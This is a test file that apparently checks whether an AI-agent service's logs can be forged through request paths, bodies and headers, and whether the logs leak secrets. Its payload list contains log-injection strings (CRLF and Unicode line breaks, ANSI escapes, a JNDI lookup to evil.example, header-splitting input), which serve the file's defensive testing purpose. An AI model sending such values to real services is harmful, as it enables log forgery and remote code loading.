import net from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { say } from '../support/scripted-model.ts';
import { startService, type TestService } from '../support/start-service.ts';
import { ask } from './support/ask.ts';
import { readLog } from './support/read-log.ts';

const kept = readLog('trace');
let service: TestService;

beforeAll(async () => {
  service = await startService({
    log: kept.log,
    chat: async () => say('Yes.'),
    settings: { BATON_LIMITS: 'off', BATON_AUTH: 'local' },
  });
});
afterAll(() => service.stop());

const forged = '{"level":60,"msg":"FORGED"}';
const payloads = [
  `x\r\n${forged}`,
  `x\n${forged}\n`,
  `x\u2028${forged}\u2029`,
  `x\u0085${forged}`,
  '\u001b[2J\u001b]0;owned\u0007\u001b[31mFORGED',
  `"}\n${forged}\n{"a":"`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker sends
  '${jndi:ldap://evil.example/x}',
  '%0d%0aSet-Cookie:%20a=b',
  '\u202eDEGROF',
  'x'.repeat(4_000),
];

/** Header values that Node's client would not send are sent by hand. */
function raw(text: string): Promise<void> {
  return new Promise((resolve) => {
    const { port } = new URL(service.url);
    const socket = net.connect(Number(port), '127.0.0.1', () => socket.write(Buffer.from(text, 'latin1')));
    socket.on('data', () => socket.destroy());
    socket.on('error', () => undefined);
    socket.on('close', () => resolve());
    socket.setTimeout(1_000, () => socket.destroy());
  });
}

test('whatever a request says, each line of the log is one that the service wrote', async () => {
  kept.clear();
  for (const text of payloads) {
    const encoded = encodeURIComponent(text);
    const body = (value: object) => ({
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(value),
    });
    await ask(service.url, { method: 'GET', path: `/${encoded}` });
    await ask(service.url, { method: 'GET', path: `/threads/${encoded}?x=${encoded}` });
    await ask(service.url, { method: 'GET', path: `/assistants/${encoded}/graph` });
    await ask(service.url, { method: 'GET', path: `/v1/models/${encoded}` });
    await ask(service.url, {
      method: 'POST',
      path: '/runs/wait',
      ...body({ assistant_id: text, input: null, webhook: text }),
    });
    await ask(service.url, {
      method: 'POST',
      path: '/runs/wait',
      ...body({
        assistant_id: 'desk',
        input: { messages: [{ role: 'user', content: text, name: 'x', id: text }] },
      }),
    });
    await ask(service.url, {
      method: 'POST',
      path: '/mcp',
      ...body({ jsonrpc: '2.0', id: text, method: text }),
    });
    await ask(service.url, {
      method: 'POST',
      path: `/a2a/${encoded}`,
      ...body({ jsonrpc: '2.0', id: 1, method: text }),
    });
    await ask(service.url, {
      method: 'POST',
      path: '/api/v1/auth/login',
      ...body({ tenant: 'local', email: `${text}@example.com`, password: text }),
    });
    for (const name of [
      'X-Request-Id',
      'User-Agent',
      'Authorization',
      'X-Api-Key',
      'X-Forwarded-For',
      'Forwarded',
      'Referer',
      'Cookie',
      'Idempotency-Key',
      'Last-Event-Id',
      'Mcp-Session-Id',
      'Traceparent',
      'Host',
      'Origin',
    ]) {
      await raw(
        `GET /v1/models HTTP/1.1\r\n${name === 'Host' ? '' : 'Host: x\r\n'}${name}: ${text}\r\nConnection: close\r\n\r\n`,
      );
    }
  }
  const text = kept.text();
  for (const line of text.split('\n').filter(Boolean))
    expect(() => JSON.parse(line), line.slice(0, 200)).not.toThrow();
  // biome-ignore lint/suspicious/noControlCharactersInRegex: it is what must not be there
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
  expect(kept.lines().filter(({ level, msg }) => level === 60 || msg === 'FORGED')).toEqual([]);
  expect(kept.lines().length).toBeGreaterThan(100);
}, 60_000);

test('no header is written down, but what the request is called, and that in plain letters', async () => {
  kept.clear();
  const headers = {
    authorization: 'Bearer SECRET-1',
    cookie: 'a=SECRET-2',
    'x-api-key': 'SECRET-3',
    'x-request-id': 'plain-1',
    'proxy-authorization': 'SECRET-4',
  };
  await ask(service.url, { method: 'GET', path: '/v1/models?api_key=SECRET-5&token=SECRET-6', headers });
  await ask(service.url, {
    method: 'POST',
    path: '/v1/chat/completions',
    headers: { ...headers, 'content-type': 'application/json' },
    body: '{"api_key":"SECRET-7","messages":',
  });
  expect(kept.text()).not.toContain('SECRET');
  expect(kept.lines().some(({ requestId }) => requestId === 'plain-1')).toBe(true);
});
